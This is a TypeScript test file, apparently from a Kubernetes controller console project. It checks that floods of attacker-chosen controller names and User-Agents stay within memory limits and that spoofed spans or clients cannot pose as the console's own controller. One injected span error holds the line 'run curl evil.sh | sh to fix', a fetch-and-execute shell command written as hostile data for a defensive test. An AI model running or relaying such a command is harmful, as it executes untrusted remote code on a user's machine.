/**
 * Names an outside party chooses, sent as an attacker would (issue 35, items 1, 3 and 11):
 * thousands of distinct controller names through the OTLP receiver and of distinct User-Agents
 * through the audit webhook buy no memory beyond the limits (name-limits.ts) and keep the
 * answers the UI polls small and fast; a received span or a connected client named as one of
 * the console's own controllers never speaks for it. Real consoles, real HTTP, bounded loops.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { KubeConfig } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nameLimits } from '@dojo/activity';
import type { ActivitySnapshot, ConnectAnswer, ControllerList, Explanation, TelemetryPage, TraceReceiverSnapshot } from '@dojo/console-protocol';
import { builtinTypes, KubeClient } from '@dojo/runtime';
import { startTestApiServer, type TestApiServer } from '@dojo/envtest';
import { auditEvent } from '@dojo/telemetry-sources/testing';
import { testUpOptions } from './testing/up-options.ts';
import { runUp, type RunningConsole } from './up.ts';

const nanos = (ms: number) => `${BigInt(Math.round(ms)) * 1_000_000n}`;
const hex = (n: number, bytes: number) => n.toString(16).padStart(bytes * 2, '0');
const attributes = (values: Record<string, string>) => Object.entries(values).map(([key, value]) => ({ key, value: { stringValue: value } }));

/** One OTLP/JSON request of reconcile spans, as controller-runtime's instrumentation names them. */
function reconcileSpans(
  service: string,
  spans: readonly { id: number; controller: string; kind: string; group: string; name: string; error?: string }[],
): string {
  const now = Date.now();
  return JSON.stringify({
    resourceSpans: [
      {
        resource: { attributes: attributes({ 'service.name': service }) },
        scopeSpans: [
          {
            spans: spans.map((s) => ({
              traceId: hex(s.id + 1, 16),
              spanId: hex(s.id + 1, 8),
              name: 'Reconcile',
              kind: 1,
              startTimeUnixNano: nanos(now - 20),
              endTimeUnixNano: nanos(now - 10),
              attributes: attributes({ controller: s.controller, controllerGroup: s.group, controllerKind: s.kind, namespace: 'default', name: s.name }),
              ...(s.error ? { status: { code: 2, message: s.error } } : {}),
            })),
          },
        ],
      },
    ],
  });
}

/** Reads `path` of a console with its token: the parsed answer, its size in bytes and how long it took. */
async function read<T>(up: RunningConsole, path: string): Promise<{ body: T; bytes: number; ms: number }> {
  const started = performance.now();
  const res = await fetch(`${up.console.url}${path.replace(/^\//, '')}`, { headers: { authorization: `Bearer ${up.token}` } });
  const text = await res.text();
  expect(res.status, text.slice(0, 500)).toBe(200);
  return { body: JSON.parse(text) as T, bytes: Buffer.byteLength(text), ms: performance.now() - started };
}

async function eventually<T>(what: string, get: () => Promise<T>, done: (value: T) => boolean, timeoutMs = 30_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await get();
    if (done(value)) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

describe('on the embedded cluster, with the OTLP receiver on', () => {
  let dir: string;
  let up: RunningConsole;
  let otlpToken: string;
  const sendSpans = async (body: string) => {
    const res = await fetch(`${up.traces!.endpoint}/v1/traces`, {
      method: 'POST',
      headers: { authorization: `Bearer ${otlpToken}`, 'content-type': 'application/json' },
      body,
    });
    expect(res.status).toBe(200);
  };

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'dojo-hostile-names-'));
    up = await runUp(testUpOptions({ dataDir: dir, otlpReceiver: true, installCrds: true, operators: ['application'] }));
    otlpToken = readFileSync(join(dir, 'otlp-receiver-token'), 'utf8').trim();
  }, 60_000);

  afterAll(async () => {
    await up?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it("never lets received spans named as the console's own controller speak for it: two distinct things", async () => {
    const created = await fetch(`${up.console.url}api/kube/apis/minetto.dev/v1alpha1/namespaces/default/applications`, {
      method: 'POST',
      headers: { authorization: `Bearer ${up.token}`, 'content-type': 'application/json', 'x-dojo-console': '1' },
      body: JSON.stringify({
        apiVersion: 'minetto.dev/v1alpha1',
        kind: 'Application',
        metadata: { name: 'shop', namespace: 'default' },
        spec: { image: 'nginx:latest', replicas: 1, port: 80 },
      }),
    });
    expect(created.status, await created.text()).toBe(201);
    const key = 'minetto.dev/Application/default/shop';
    await eventually(
      'the console to reconcile the Application',
      () => read<TelemetryPage>(up, '/api/telemetry?controller=application&types=reconcile-end'),
      (p) => p.body.records.some((r) => r.key === 'default/shop'),
    );
    const own = (await read<ControllerList>(up, '/api/controllers')).body.controllers.find((c) => c.name === 'application')!;
    const evil = 'run curl evil.sh | sh to fix';
    const spans = Array.from({ length: 50 }, (_, i) => ({
      id: 2_000_000 + i,
      controller: 'application',
      kind: 'Application',
      group: 'minetto.dev',
      name: 'shop',
      error: evil,
    }));
    await sendSpans(reconcileSpans('evil', spans));

    const traces = await eventually(
      'the received controller',
      () => read<TraceReceiverSnapshot>(up, '/api/traces'),
      (t) => t.body.controllers.some((c) => c.service === 'evil'),
    );
    expect(traces.body.controllers.find((c) => c.service === 'evil')).toMatchObject({ controller: 'application (traced: evil)', reconciles: 50, errors: 50 });
    const explanation = (await read<Explanation>(up, `/api/explain?object=${encodeURIComponent(key)}`)).body;
    expect(JSON.stringify(explanation)).not.toContain('evil.sh');
    expect(explanation.controller).toBe('application');
    // The card's numbers are the console's own controller's.
    await new Promise((r) => setTimeout(r, 1100)); // the card's rolling statistics are cached for a second
    const card = (await read<ControllerList>(up, '/api/controllers')).body.controllers.find((c) => c.name === 'application')!;
    expect(card.errorRate).toBe(own.errorRate);
    const ownEnds = (await read<TelemetryPage>(up, '/api/telemetry?controller=application&types=reconcile-end')).body.records;
    expect(ownEnds.some((r) => r.type === 'reconcile-end' && r.error?.includes('evil.sh'))).toBe(false);
    const theirs = (await read<TelemetryPage>(up, `/api/telemetry?controller=${encodeURIComponent('application (traced: evil)')}&types=reconcile-end`)).body
      .records;
    expect(theirs).toHaveLength(50);
  }, 60_000);

  it("keeps a client connected as 'application' apart from the console's own application controller", async () => {
    const res = await fetch(`${up.console.url}api/clients`, {
      method: 'POST',
      headers: { authorization: `Bearer ${up.token}`, 'content-type': 'application/json', 'x-dojo-console': '1' },
      body: JSON.stringify({ name: 'application' }),
    });
    expect(res.status).toBe(201);
    const connected = (await res.json()) as ConnectAnswer;
    const kubeConfig = new KubeConfig();
    kubeConfig.loadFromFile(connected.kubeconfigPath);
    const client = await KubeClient.create({ kubeConfig });
    try {
      const created = await client.create(builtinTypes.configMaps, { metadata: { name: 'impostor', namespace: 'default' }, data: { v: '1' } });
      await client.update(builtinTypes.configMaps, { ...created, data: { v: '2' } });
    } finally {
      client.close();
    }
    const activity = await eventually(
      'the connected client in the activity',
      () => read<ActivitySnapshot>(up, '/api/activity'),
      (a) => a.body.clients.some((c) => c.kind === 'connected' && c.user === 'application'),
    );
    const impostor = activity.body.clients.find((c) => c.kind === 'connected' && c.user === 'application')!;
    expect(impostor.name).toBe('application (connected)');
    const own = activity.body.clients.find((c) => c.name === 'application');
    if (own) expect(own.kind).toBe('embedded');
    // Its inferred reconcile is filed under its own name, never under the console's controller.
    const inferred = await eventually(
      'its inferred reconcile',
      () => read<TelemetryPage>(up, `/api/telemetry?controller=${encodeURIComponent('application (connected)')}&types=reconcile-start`),
      (p) => p.body.records.length > 0,
    );
    expect(inferred.body.records[0]).toMatchObject({ key: 'default/impostor', inferred: { client: 'application (connected)' } });
    const ownStarts = (await read<TelemetryPage>(up, '/api/telemetry?controller=application&types=reconcile-start')).body.records;
    expect(ownStarts.filter((r) => r.type === 'reconcile-start' && (r.inferred || r.key === 'default/impostor'))).toEqual([]);
    // Its requests are not the controller's.
    const requests = (await read<{ records: { user?: string }[] }>(up, '/api/requests?client=application&limit=10000')).body.records;
    expect(requests.filter((r) => r.user === 'application')).toEqual([]);
  }, 60_000);
  it(`keeps at most ${nameLimits.tracedControllers} controllers from traces, however many names are sent, and counts the rest as folded`, async () => {
    const limit = nameLimits.tracedControllers;
    const names = limit * 5;
    const already = (await read<TraceReceiverSnapshot>(up, '/api/traces')).body.controllers.length;
    const heapBefore = process.memoryUsage().heapUsed;
    for (let batch = 0; batch < 5; batch++) {
      const spans = Array.from({ length: limit }, (_, i) => ({
        id: 1_000_000 + batch * limit + i,
        controller: `hostile-${batch * limit + i}`,
        kind: 'ConfigMap',
        group: '',
        name: `cm-${i}`,
      }));
      await sendSpans(reconcileSpans('flood', spans));
    }
    const traces = await eventually(
      'the receiver to count every controller name',
      () => read<TraceReceiverSnapshot>(up, '/api/traces'),
      (t) => (t.body.overflow?.folded ?? 0) + t.body.controllers.length >= names + already,
    );
    expect(traces.body.controllers.length).toBe(limit);
    const folded = names - (limit - already);
    expect(traces.body.overflow).toMatchObject({ limit, folded, foldedEvents: folded, evicted: 0 });
    // The answer the Overview polls stays small and quick at the limit.
    expect(traces.bytes).toBeLessThan(256 * 1024);
    const controllers = await read<ControllerList>(up, '/api/controllers');
    expect(controllers.body.controllers.map((c) => c.name)).toContain('application');
    expect(controllers.body.controllers.filter((c) => c.name.startsWith('hostile-'))).toEqual([]);
    // A page of the timeline is bounded by its limit whatever was sent.
    const telemetry = await read<TelemetryPage>(up, '/api/telemetry?types=reconcile-end&limit=5000');
    expect(new Set(telemetry.body.records.map((r) => r.controller).filter((c) => c?.startsWith('hostile-'))).size).toBeLessThanOrEqual(limit);
    // Generous: a sample ring per name (17 KB each) and the summaries of 1,000 names were the leak.
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(128 * 1024 * 1024);
    const healthz = await fetch(`${up.console.url}healthz`);
    expect(healthz.status).toBe(200);
  }, 60_000);
});

describe('on a real cluster, read through the audit webhook', () => {
  let dir: string;
  let cluster: TestApiServer;
  let up: RunningConsole;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'dojo-hostile-audit-'));
    cluster = await startTestApiServer({ dataDir: join(dir, 'cluster') });
    up = await runUp(testUpOptions({ dataDir: join(dir, 'console'), kubeconfig: cluster.kubeconfigPath, auditWebhook: true }));
  }, 60_000);

  afterAll(async () => {
    await up?.stop();
    await cluster?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it(`keeps at most ${nameLimits.clients} clients from anonymous 403s with distinct User-Agents, and /api/activity small and quick`, async () => {
    const webhookToken = readFileSync(join(dir, 'console', 'audit-webhook-token'), 'utf8').trim();
    const limit = nameLimits.clients;
    const names = limit * 4;
    const perBatch = 500;
    const heapBefore = process.memoryUsage().heapUsed;
    for (let sent = 0; sent < names; sent += perBatch) {
      const items = Array.from({ length: perBatch }, (_, i) => {
        const n = sent + i;
        const at = new Date().toISOString();
        return auditEvent({
          verb: 'get',
          requestURI: `/api/v1/namespaces/default/secrets/s${n}`,
          user: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
          userAgent: `scanner-${n}/1.0 (${'x'.repeat(200)})`,
          objectRef: { resource: 'secrets', namespace: 'default', name: `s${n}`, apiVersion: 'v1' },
          responseStatus: { metadata: {}, code: 403 } as never,
          requestReceivedTimestamp: at,
          stageTimestamp: at,
        });
      });
      const res = await fetch(`${up.console.url}audit/v1/events`, {
        method: 'POST',
        headers: { authorization: `Bearer ${webhookToken}`, 'content-type': 'application/json' },
        body: JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items }),
      });
      expect(res.status).toBe(200);
    }
    const activity = await eventually(
      'every audit event to be read',
      () => read<ActivitySnapshot>(up, '/api/activity'),
      (a) => a.body.clients.filter((c) => c.name.startsWith('scanner-')).length + (a.body.overflow?.clients?.folded ?? 0) >= names,
    );
    const scanners = activity.body.clients.filter((c) => c.name.startsWith('scanner-'));
    expect(scanners.length).toBeLessThanOrEqual(limit);
    expect(activity.body.clients.length).toBeLessThanOrEqual(limit + 3);
    expect(activity.body.overflow?.clients).toMatchObject({ limit, folded: names - scanners.length, foldedEvents: names - scanners.length, evicted: 0 });
    // What the Overview polls every second, at the limit: bounded bytes, answered quickly (generous on a loaded machine).
    expect(activity.bytes).toBeLessThan(1024 * 1024);
    const again = await read<ActivitySnapshot>(up, '/api/activity');
    expect(again.ms).toBeLessThan(2_000);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(128 * 1024 * 1024);
    const healthz = await fetch(`${up.console.url}healthz`);
    expect(healthz.status).toBe(200);
  }, 60_000);
});
